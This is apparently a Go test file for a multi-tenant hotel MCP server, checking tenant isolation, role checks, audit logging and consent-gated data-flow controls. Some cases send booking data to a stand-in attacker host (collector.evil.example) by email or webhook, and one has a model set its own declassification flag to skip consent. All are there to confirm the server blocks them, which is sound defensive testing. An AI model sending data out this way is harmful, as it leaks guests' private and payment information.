package hotel_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/tenantmcp/tenantmcp/claims/devtoken"
	"github.com/tenantmcp/tenantmcp/examples/hotel/hotel"
	"github.com/tenantmcp/tenantmcp/flow"
	"github.com/tenantmcp/tenantmcp/server"
)

// connectWith connects a go-sdk client with opts (elicitation handler,
// notification handlers) and the standalone SSE stream open, so that
// server notifications arrive.
func (h *harness) connectWith(t *testing.T, token string, opts *mcp.ClientOptions) *mcp.ClientSession {
	t.Helper()
	return h.dial(t, token, opts, false)
}

// auditRecords parses the audit log.
func (h *harness) auditRecords(t *testing.T) []map[string]any {
	t.Helper()
	var recs []map[string]any
	for _, line := range strings.Split(strings.TrimSpace(h.audit.String()), "\n") {
		if line == "" {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("audit line %q: %v", line, err)
		}
		recs = append(recs, m)
	}
	return recs
}

func rpcErr(t *testing.T, err error) *jsonrpc.Error {
	t.Helper()
	var je *jsonrpc.Error
	if !errors.As(err, &je) {
		t.Fatalf("error %v (%T) is not a JSON-RPC error", err, err)
	}
	return je
}

// firstBookingOf returns a booking id of the chain (or hotel, if hotel is
// set) and one of another chain.
func bookingOfChain(d *hotel.Data, chain string) int64 {
	for _, b := range d.Bookings {
		if d.ChainOfHotel(d.HotelOfBooking(b.ID)) == chain {
			return b.ID
		}
	}
	return 0
}

func TestResourcesAreTenantScoped(t *testing.T) {
	h := start(t, false)
	d := h.app.Data
	ctx := context.Background()
	alice := h.connect(t, h.tokenFor(t, "alice"))
	bob := h.connect(t, h.tokenFor(t, "bob"))
	carol := h.connect(t, h.tokenFor(t, "carol"))

	// resources/list and templates/list: two resources' worth, same for all.
	rl, err := alice.ListResources(ctx, nil)
	if err != nil || len(rl.Resources) != 1 || rl.Resources[0].URI != hotel.URIHotels || rl.CacheScope != "private" {
		t.Fatalf("resources/list = %+v, %v", rl, err)
	}
	tl, err := alice.ListResourceTemplates(ctx, nil)
	if err != nil || len(tl.ResourceTemplates) != 2 {
		t.Fatalf("resources/templates/list = %+v, %v", tl, err)
	}

	// hotel://hotels: each caller its own hotels, computed from the seed.
	for _, c := range []struct {
		who    string
		cs     *mcp.ClientSession
		chain  string
		hotels []string
	}{{"alice", alice, "acme", nil}, {"bob", bob, "globex", nil}, {"carol", carol, "", []string{"acme-paris"}}} {
		var got hotel.HotelsOut
		readJSON(t, c.cs, hotel.URIHotels, &got)
		var want, ids []string
		for _, x := range d.Hotels {
			if x.ChainID == c.chain || slices.Contains(c.hotels, x.ID) {
				want = append(want, x.ID)
			}
		}
		for _, x := range got.Hotels {
			ids = append(ids, x.ID)
		}
		slices.Sort(want)
		if len(want) == 0 || !slices.Equal(ids, want) {
			t.Errorf("%s: hotels %v, want %v", c.who, ids, want)
		}
	}

	// hotel://bookings/{id}: the own booking reads; another chain's booking
	// (interleaved ids) reads exactly like a missing id and like a URI no
	// template matches.
	acmeB, globexB := bookingOfChain(d, "acme"), bookingOfChain(d, "globex")
	var own hotel.BookingDetail
	readJSON(t, alice, hotel.BookingURI(acmeB), &own)
	if own.Booking.ID != acmeB || own.Booking.GuestEmail == "" {
		t.Fatalf("own booking %+v", own.Booking)
	}
	if g := d.Guests[own.Guest.ID-1]; own.Booking.GuestEmail == g.Email {
		t.Errorf("a manager received a guest's e-mail in clear through a resource")
	}
	foreign := readErr(t, alice, hotel.BookingURI(globexB))
	missing := readErr(t, alice, hotel.BookingURI(999999999))
	nonsense := readErr(t, alice, "hotel://bookings/not-a-number")
	unknown := readErr(t, alice, "hotel://nothing/here")
	for name, e := range map[string]*jsonrpc.Error{"missing": missing, "nonsense": nonsense, "unknown": unknown} {
		if e.Code != foreign.Code || e.Message != foreign.Message {
			t.Errorf("foreign read %d %q differs from %s %d %q", foreign.Code, foreign.Message, name, e.Code, e.Message)
		}
	}
	if strings.Contains(string(foreign.Data), "globex") || !strings.Contains(string(foreign.Data), hotel.BookingURI(globexB)) {
		t.Errorf("foreign error data %s", foreign.Data)
	}
	// carol (hotel acme-paris) cannot read a sibling hotel's booking.
	for _, b := range d.Bookings {
		if hid := d.HotelOfBooking(b.ID); hid != "acme-paris" && d.ChainOfHotel(hid) == "acme" {
			if e := readErr(t, carol, hotel.BookingURI(b.ID)); e.Message != foreign.Message {
				t.Errorf("carol reads sibling booking: %v", e)
			}
			break
		}
	}
	// hotel://rooms/{kind}: only the caller's rooms.
	var rooms hotel.RoomsOut
	readJSON(t, bob, "hotel://rooms/suite", &rooms)
	if len(rooms.Rooms) == 0 {
		t.Fatal("bob has no suites")
	}
	for _, r := range rooms.Rooms {
		if d.ChainOfHotel(r.HotelID) != "globex" || r.Kind != "suite" {
			t.Fatalf("bob's suites include %+v", r)
		}
	}
	// One audit record per read, with the outcome.
	var reads, notFound int
	for _, r := range h.auditRecords(t) {
		if r["method"] == "resources/read" {
			reads++
			if r["outcome"] == server.OutcomeNotFound {
				notFound++
			}
		}
	}
	// 3 hotels + own + foreign + missing + nonsense + sibling + rooms; the
	// unknown URI never reaches a handler.
	if reads != 9 || notFound != 4 {
		t.Errorf("audit: %d reads (%d not found), want 9 (4)", reads, notFound)
	}
}

func readJSON(t *testing.T, cs *mcp.ClientSession, uri string, out any) {
	t.Helper()
	res, err := cs.ReadResource(context.Background(), &mcp.ReadResourceParams{URI: uri})
	if err != nil {
		t.Fatalf("read %s: %v", uri, err)
	}
	if len(res.Contents) != 1 || res.Contents[0].MIMEType != server.MIMEJSON {
		t.Fatalf("read %s: contents %+v", uri, res.Contents)
	}
	// A tenant's read must not be cached for anyone else.
	if res.CacheScope != "private" {
		t.Errorf("read %s: cacheScope %q, want private", uri, res.CacheScope)
	}
	if err := json.Unmarshal([]byte(res.Contents[0].Text), out); err != nil {
		t.Fatalf("read %s: %v", uri, err)
	}
}

func readErr(t *testing.T, cs *mcp.ClientSession, uri string) *jsonrpc.Error {
	t.Helper()
	res, err := cs.ReadResource(context.Background(), &mcp.ReadResourceParams{URI: uri})
	if err == nil {
		t.Fatalf("read %s succeeded: %+v", uri, res.Contents[0].Text)
	}
	return rpcErr(t, err)
}

// someGuest is a guest of acme-paris.
func someGuest(t *testing.T, d *hotel.Data) hotel.GuestRow {
	for _, g := range d.Guests {
		if g.HotelID == "acme-paris" {
			return g
		}
	}
	t.Fatal("no acme-paris guest")
	return hotel.GuestRow{}
}

func TestPromptIsTenantScoped(t *testing.T) {
	h := start(t, false)
	d := h.app.Data
	ctx := context.Background()
	carol := h.connect(t, h.tokenFor(t, "carol"))
	bob := h.connect(t, h.tokenFor(t, "bob"))
	g := someGuest(t, d)

	pl, err := carol.ListPrompts(ctx, nil)
	if err != nil || len(pl.Prompts) != 1 || pl.Prompts[0].Name != hotel.PromptGuestBriefing {
		t.Fatalf("prompts/list = %+v, %v", pl, err)
	}
	res, err := carol.GetPrompt(ctx, &mcp.GetPromptParams{Name: hotel.PromptGuestBriefing, Arguments: map[string]string{"guest": g.FullName}})
	if err != nil {
		h.failf(t, "prompts/get: %v", err)
	}
	body := res.Messages[0].Content.(*mcp.TextContent).Text
	// The front desk may see the guest's name and e-mail (hotel.Redaction).
	if !strings.Contains(body, g.FullName) || !strings.Contains(body, g.Email) {
		t.Errorf("carol's briefing lacks her own guest: %s", body)
	}
	// bob: only globex's guests of that name (names repeat across chains,
	// ids and e-mail addresses do not); with none, exactly nobody.
	var globexIDs []int64
	for _, x := range d.Guests {
		if x.FullName == g.FullName && d.ChainOfHotel(x.HotelID) == "globex" {
			globexIDs = append(globexIDs, x.ID)
		}
	}
	bres, foreign := bob.GetPrompt(ctx, &mcp.GetPromptParams{Name: hotel.PromptGuestBriefing, Arguments: map[string]string{"guest": g.FullName}})
	_, nobody := bob.GetPrompt(ctx, &mcp.GetPromptParams{Name: hotel.PromptGuestBriefing, Arguments: map[string]string{"guest": "Nobody Atall"}})
	if nobody == nil {
		t.Fatal("a briefing about nobody")
	}
	if len(globexIDs) == 0 {
		if foreign == nil {
			t.Fatalf("bob got acme's guest briefing: %+v", bres)
		}
		fe, ne := rpcErr(t, foreign), rpcErr(t, nobody)
		if fe.Code != ne.Code || fe.Message != ne.Message {
			t.Errorf("foreign guest %d %q vs nobody %d %q", fe.Code, fe.Message, ne.Code, ne.Message)
		}
	} else {
		if foreign != nil {
			t.Fatal(foreign)
		}
		bb := bres.Messages[0].Content.(*mcp.TextContent).Text
		var data hotel.BriefingData
		if err := json.Unmarshal([]byte(bb[strings.Index(bb, "```json\n")+8:strings.LastIndex(bb, "```")]), &data); err != nil {
			t.Fatalf("bob's briefing data: %v\n%s", err, bb)
		}
		var ids []int64
		for _, x := range data.Guests {
			ids = append(ids, x.ID)
		}
		if !slices.Equal(ids, globexIDs) || strings.Contains(bb, g.Email) {
			t.Errorf("bob's briefing guests %v, want globex's %v", ids, globexIDs)
		}
	}
	// A missing required argument is invalid params.
	if _, err := carol.GetPrompt(ctx, &mcp.GetPromptParams{Name: hotel.PromptGuestBriefing}); err == nil || rpcErr(t, err).Code != jsonrpc.CodeInvalidParams {
		t.Errorf("missing argument: %v", err)
	}
}

func TestCompletionsAreScopedAndRedacted(t *testing.T) {
	h := start(t, false)
	d := h.app.Data
	ctx := context.Background()
	g := someGuest(t, d)
	prefix := g.FullName[:2]
	want := func(pred func(hotel.GuestRow) bool) []string {
		var out []string
		for _, x := range d.Guests {
			if pred(x) && strings.HasPrefix(x.FullName, prefix) && !slices.Contains(out, x.FullName) {
				out = append(out, x.FullName)
			}
		}
		slices.Sort(out)
		return out
	}
	complete := func(cs *mcp.ClientSession, ref *mcp.CompleteReference, arg, value string) []string {
		t.Helper()
		res, err := cs.Complete(ctx, &mcp.CompleteParams{Ref: ref, Argument: mcp.CompleteParamsArgument{Name: arg, Value: value}})
		if err != nil {
			h.failf(t, "complete: %v", err)
		}
		return res.Completion.Values
	}
	guestRef := &mcp.CompleteReference{Type: "ref/prompt", Name: hotel.PromptGuestBriefing}
	carol := h.connect(t, h.tokenFor(t, "carol"))
	bob := h.connect(t, h.tokenFor(t, "bob"))
	gotCarol := complete(carol, guestRef, "guest", prefix)
	if w := want(func(x hotel.GuestRow) bool { return x.HotelID == "acme-paris" }); !slices.Equal(gotCarol, w) || !slices.Contains(gotCarol, g.FullName) {
		t.Errorf("carol's completions %v, want %v", gotCarol, w)
	}
	gotBob := complete(bob, guestRef, "guest", prefix)
	if w := want(func(x hotel.GuestRow) bool { return d.ChainOfHotel(x.HotelID) == "globex" }); !slices.Equal(gotBob, w) {
		t.Errorf("bob's completions %v, want %v", gotBob, w)
	}
	// A role that may not see names gets no name suggestions, but still
	// the room kinds of its chain.
	tok, err := h.app.Issuer.Mint(devtoken.Token{Subject: "dave", Groups: []string{"/tenants/acme"}, Roles: []string{"auditor"}, TTL: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	dave := h.connect(t, tok)
	if got := complete(dave, guestRef, "guest", prefix); len(got) != 0 {
		t.Errorf("a role without name reveal got names %v", got)
	}
	kinds := complete(dave, &mcp.CompleteReference{Type: "ref/resource", URI: hotel.URIRooms}, "kind", "")
	var wantKinds []string
	for _, r := range d.Rooms {
		if d.ChainOfHotel(r.HotelID) == "acme" && !slices.Contains(wantKinds, r.Kind) {
			wantKinds = append(wantKinds, r.Kind)
		}
	}
	slices.Sort(wantKinds)
	if !slices.Equal(kinds, wantKinds) {
		t.Errorf("kinds %v, want %v", kinds, wantKinds)
	}
	// An unknown reference answers like a reference with nothing to offer.
	if got := complete(carol, &mcp.CompleteReference{Type: "ref/prompt", Name: "no_such_prompt"}, "x", "a"); len(got) != 0 {
		t.Errorf("unknown prompt: %v", got)
	}
}

func TestManagerToolsRequireTheRole(t *testing.T) {
	h := start(t, false)
	ctx := context.Background()
	carol := h.connect(t, h.tokenFor(t, "carol"))
	alice := h.connect(t, h.tokenFor(t, "alice"))
	names := func(cs *mcp.ClientSession) []string {
		res, err := cs.ListTools(ctx, nil)
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, tl := range res.Tools {
			out = append(out, tl.Name)
		}
		return out
	}
	cn, an := names(carol), names(alice)
	for _, tool := range []string{"cancel_booking", "revenue_report"} {
		if slices.Contains(cn, tool) {
			t.Errorf("the front desk sees %s", tool)
		}
		if !slices.Contains(an, tool) {
			t.Errorf("the manager does not see %s", tool)
		}
	}
	if !slices.Contains(cn, "get_booking") {
		t.Errorf("the front desk lost get_booking: %v", cn)
	}
	// Calling it anyway: refused before the handler (no booking changes).
	id := bookingOfChain(h.app.Data, "acme")
	for _, b := range h.app.Data.Bookings {
		if h.app.Data.HotelOfBooking(b.ID) == "acme-paris" && b.Status == "confirmed" {
			id = b.ID
			break
		}
	}
	// A role no token can add is a JSON-RPC denial: the session goes on.
	_, err := carol.CallTool(ctx, &mcp.CallToolParams{Name: "cancel_booking", Arguments: map[string]any{"id": id}})
	var werr *jsonrpc.Error
	if !errors.As(err, &werr) || werr.Code != server.CodeDenied {
		t.Fatalf("the front desk's cancel: %v", err)
	}
	got, res := call[hotel.BookingDetail](t, carol, "get_booking", map[string]any{"id": id})
	if res.IsError || got.Booking.Status == "cancelled" {
		t.Fatalf("booking %d after the refused cancel: %+v %s", id, got.Booking, text(res))
	}

	// On the wire: 200 with the JSON-RPC error, no challenge (a new token
	// would not help).
	body := `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"revenue_report","arguments":{"from":"2026-01-01","to":"2027-01-01"}}}`
	post := func(body string) (int, string, string) {
		req, _ := http.NewRequest(http.MethodPost, h.app.HTTP.ResourceURL, strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+h.tokenFor(t, "carol"))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		msg, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		return resp.StatusCode, resp.Header.Get("WWW-Authenticate"), string(msg)
	}
	if st, ch, msg := post(body); st != http.StatusOK || ch != "" || !strings.Contains(msg, fmt.Sprintf(`"code":%d`, server.CodeDenied)) {
		t.Errorf("status %d, WWW-Authenticate %q, body %s", st, ch, msg)
	}
	// The manager's call goes through.
	if _, res := call[hotel.RevenueOut](t, alice, "revenue_report", map[string]any{"from": "2026-01-01", "to": "2027-01-01"}); res.IsError {
		t.Fatalf("manager revenue_report: %s", text(res))
	}
}

func TestSubscriptionsReachOnlyCoveringScopes(t *testing.T) {
	h := start(t, false)
	d := h.app.Data
	ctx := context.Background()
	type note struct{ who, uri string }
	var mu sync.Mutex
	var notes []note
	got := make(chan note, 16)
	opts := func(who string) *mcp.ClientOptions {
		return &mcp.ClientOptions{ResourceUpdatedHandler: func(_ context.Context, r *mcp.ResourceUpdatedNotificationRequest) {
			mu.Lock()
			notes = append(notes, note{who, r.Params.URI})
			mu.Unlock()
			got <- note{who, r.Params.URI}
		}}
	}
	alice := h.connectWith(t, h.tokenFor(t, "alice"), opts("alice"))
	bob := h.connectWith(t, h.tokenFor(t, "bob"), opts("bob"))
	var acmeB, globexB int64
	for _, b := range d.Bookings {
		ch := d.ChainOfHotel(d.HotelOfBooking(b.ID))
		if b.Status == "confirmed" && ch == "acme" && acmeB == 0 {
			acmeB = b.ID
		}
		if b.Status == "confirmed" && ch == "globex" && globexB == 0 {
			globexB = b.ID
		}
	}
	// Both subscribe to acme's booking (bob's subscribe succeeds: it must
	// not tell a foreign URI from a missing one), bob also to his own.
	for _, s := range []struct {
		cs  *mcp.ClientSession
		uri string
	}{{alice, hotel.BookingURI(acmeB)}, {bob, hotel.BookingURI(acmeB)}, {bob, hotel.BookingURI(globexB)}, {bob, hotel.BookingURI(999999999)}} {
		if err := s.cs.Subscribe(ctx, &mcp.SubscribeParams{URI: s.uri}); err != nil {
			t.Fatalf("subscribe %s: %v", s.uri, err)
		}
	}
	if _, res := call[hotel.CancelledOut](t, alice, "cancel_booking", map[string]any{"id": acmeB}); res.IsError {
		t.Fatal(text(res))
	}
	if _, res := call[hotel.CancelledOut](t, bob, "cancel_booking", map[string]any{"id": globexB}); res.IsError {
		t.Fatal(text(res))
	}
	want := map[note]bool{{"alice", hotel.BookingURI(acmeB)}: true, {"bob", hotel.BookingURI(globexB)}: true}
	timeout := time.After(10 * time.Second)
	for len(want) > 0 {
		select {
		case n := <-got:
			if !want[n] {
				t.Fatalf("unexpected notification %+v", n)
			}
			delete(want, n)
		case <-timeout:
			t.Fatalf("notifications missing: %v", want)
		}
	}
	// bob's own notification came after acme's change was announced, on
	// the same stream: had acme's been sent to him, it would be here.
	mu.Lock()
	defer mu.Unlock()
	for _, n := range notes {
		if n.who == "bob" && n.uri != hotel.BookingURI(globexB) {
			t.Errorf("bob was told of %s", n.uri)
		}
	}
}

// paidBooking is a paid, uncancelled booking of an acme-paris guest whose
// e-mail address is unique (so $owner applies).
func paidBooking(t *testing.T, d *hotel.Data) (hotel.GuestRow, int64) {
	g, b, ok := d.PaidBookingOfOwner("acme-paris")
	if !ok {
		t.Fatal("no paid booking of a uniquely addressed acme-paris guest")
	}
	return g, b
}

func TestDeclassificationNeedsTheUser(t *testing.T) {
	h := start(t, false)
	d := h.app.Data
	ctx := context.Background()
	guest, booking := paidBooking(t, d)
	var card string
	for _, p := range d.Payments {
		if p.BookingID == booking && p.CardNumber != "" {
			card = p.CardNumber
		}
	}
	accept := func(allow bool) func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
		return func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"allow": allow}}, nil
		}
	}
	answer := func(action string) func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
		return func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			return &mcp.ElicitResult{Action: action}, nil
		}
	}
	for i, c := range []struct {
		name        string
		handler     func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) // nil: no elicitation capability
		to          string
		meta        bool // the model writes the declassification into _meta itself
		wantAllow   bool
		wantAsked   bool
		wantConsent string
	}{
		{"user accepts", accept(true), guest.Email, false, true, true, server.ConsentAccepted},
		{"user declines", answer("decline"), guest.Email, false, false, true, server.ConsentDeclined},
		{"user cancels", answer("cancel"), guest.Email, false, false, true, server.ConsentCancelled},
		{"accept without allow", accept(false), guest.Email, false, false, true, server.ConsentDeclined},
		{"client cannot be asked", nil, guest.Email, false, false, false, server.ConsentUnsupported},
		{"model sets _meta, no elicitation", nil, guest.Email, true, false, false, server.ConsentUnsupported},
		{"model sets _meta, user declines", answer("decline"), guest.Email, true, false, true, server.ConsentDeclined},
		{"no rule covers a stranger", accept(true), "collector@evil.example", false, false, false, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			// A subject per row: no row inherits another's taint.
			sub := "carol+consent" + string(rune('a'+i))
			tok, err := h.app.Issuer.Mint(devtoken.Token{Subject: sub, Groups: []string{"/tenants/acme/hotels/acme-paris"}, Roles: []string{"front_desk"}, TTL: time.Hour})
			if err != nil {
				t.Fatal(err)
			}
			var asked []string
			var opts *mcp.ClientOptions
			if c.handler != nil {
				opts = &mcp.ClientOptions{ElicitationHandler: func(ctx context.Context, r *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
					asked = append(asked, r.Params.Message)
					return c.handler(ctx, r)
				}}
			}
			cs := h.connectWith(t, tok, opts)
			if _, res := call[hotel.BookingDetail](t, cs, "get_booking", map[string]any{"id": booking}); res.IsError {
				t.Fatal(text(res))
			}
			params := &mcp.CallToolParams{Name: "send_confirmation_email", Arguments: map[string]any{"to": c.to, "body": "your invoice"}}
			if c.meta {
				params.Meta = mcp.Meta{flow.MetaDeclassify: "guest-invoice"}
			}
			before := len(h.app.Outbox.Messages())
			res, err := cs.CallTool(ctx, params)
			sent := len(h.app.Outbox.Messages()) - before
			if c.wantAllow {
				if err != nil || res.IsError || sent != 1 {
					t.Fatalf("consented call: %v %+v, %d sent", err, res, sent)
				}
			} else {
				if err == nil || sent != 0 {
					t.Fatalf("call allowed (%+v), %d sent", res, sent)
				}
				if je := rpcErr(t, err); je.Code != server.CodeDenied {
					t.Errorf("code %d", je.Code)
				}
			}
			if (len(asked) > 0) != c.wantAsked {
				t.Fatalf("asked %d times, want asked=%v", len(asked), c.wantAsked)
			}
			if len(asked) > 0 {
				m := asked[0]
				for _, w := range []string{"send_confirmation_email", c.to, "payment", "get_booking", "guest-invoice"} {
					if !strings.Contains(m, w) {
						t.Errorf("the question lacks %q: %s", w, m)
					}
				}
				if strings.Contains(m, card) || strings.Contains(m, card[len(card)-8:]) {
					t.Errorf("the question shows the card: %s", m)
				}
			}
			// The audit record of the sink call says what the user did.
			var rec map[string]any
			for _, r := range h.auditRecords(t) {
				if r["tool"] == "send_confirmation_email" && strings.HasPrefix(r["sub"].(string), "carol+consent"+string(rune('a'+i))) {
					rec = r
				}
			}
			if rec == nil {
				t.Fatal("no audit record")
			}
			if got, _ := rec["consent"].(string); got != c.wantConsent {
				t.Errorf("audit consent %q, want %q", got, c.wantConsent)
			}
			if c.wantAllow {
				if rec["flow"] != "declassified:guest-invoice (user consent)" || rec["witness"] == nil {
					t.Errorf("audit of the accepted call: flow %v witness %v", rec["flow"], rec["witness"])
				}
				// Once: the same call again, asked again (here: declined
				// by a fresh session without elicitation).
				again := h.connectWith(t, tok, nil)
				if _, err := again.CallTool(ctx, params); err == nil {
					t.Error("the consent carried over to a second call")
				}
			}
		})
	}
}

// TestResourcesAndPromptsLabelTheSession: what a resource read or a prompt
// returns joins the caller's flow taint like a tool result, so it cannot
// leave through a sink afterwards.
func TestResourcesAndPromptsLabelTheSession(t *testing.T) {
	h := start(t, false)
	d := h.app.Data
	ctx := context.Background()
	_, booking := paidBooking(t, d)
	g := someGuest(t, d)
	for i, c := range []struct {
		read   func(cs *mcp.ClientSession) error
		origin string
	}{
		{func(cs *mcp.ClientSession) error {
			_, err := cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: hotel.BookingURI(booking)})
			return err
		}, "resource:booking"},
		{func(cs *mcp.ClientSession) error {
			_, err := cs.GetPrompt(ctx, &mcp.GetPromptParams{Name: hotel.PromptGuestBriefing, Arguments: map[string]string{"guest": g.FullName}})
			return err
		}, "prompt:" + hotel.PromptGuestBriefing},
	} {
		tok, err := h.app.Issuer.Mint(devtoken.Token{Subject: "carol+label" + string(rune('a'+i)), Groups: []string{"/tenants/acme/hotels/acme-paris"}, Roles: []string{"front_desk"}, TTL: time.Hour})
		if err != nil {
			t.Fatal(err)
		}
		cs := h.connect(t, tok)
		// Before the read, the session holds nothing: the webhook is fine.
		if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "post_webhook", Arguments: map[string]any{"url": "https://collector.evil.example/in", "body": "hi"}}); err != nil {
			t.Fatalf("%s: clean session denied: %v", c.origin, err)
		}
		if err := c.read(cs); err != nil {
			t.Fatal(err)
		}
		_, err = cs.CallTool(ctx, &mcp.CallToolParams{Name: "post_webhook", Arguments: map[string]any{"url": "https://collector.evil.example/in", "body": "hi"}})
		if err == nil {
			t.Fatalf("%s: the data left through the webhook", c.origin)
		}
		var data struct {
			Witness flow.Witness `json:"witness"`
		}
		if je := rpcErr(t, err); je.Code != server.CodeDenied || json.Unmarshal(je.Data, &data) != nil ||
			len(data.Witness.IntroducedBy) == 0 || data.Witness.IntroducedBy[0].Tool != c.origin {
			t.Errorf("%s: denial %v, witness %+v", c.origin, err, data.Witness)
		}
	}
}

// TestStatelessConsentThroughMRTR: stateless HTTP asks the user through a
// multi round-trip request (2026-07-28): the go-sdk client answers the
// input-required result with its elicitation handler and retries, once.
func TestStatelessConsentThroughMRTR(t *testing.T) {
	h := start(t, true)
	guest, booking := paidBooking(t, h.app.Data)
	asked := 0
	cs := h.connectWith(t, h.tokenFor(t, "carol"), &mcp.ClientOptions{ElicitationHandler: func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
		asked++
		return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"allow": true}}, nil
	}})
	if _, res := call[hotel.BookingDetail](t, cs, "get_booking", map[string]any{"id": booking}); res.IsError {
		t.Fatal(text(res))
	}
	before := len(h.app.Outbox.Messages())
	res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "send_confirmation_email", Arguments: map[string]any{"to": guest.Email, "body": "invoice"}})
	if err != nil || res.IsError || len(h.app.Outbox.Messages()) != before+1 || asked != 1 {
		t.Fatalf("stateless consent: err %v, asked %d", err, asked)
	}
	var consent []string
	for _, r := range h.auditRecords(t) {
		if r["tool"] == "send_confirmation_email" {
			c, _ := r["consent"].(string)
			consent = append(consent, c)
		}
	}
	if len(consent) != 2 || consent[0] != server.ConsentRequested || consent[1] != server.ConsentAccepted {
		t.Errorf("audit consent %q, want requested then accepted", consent)
	}
}
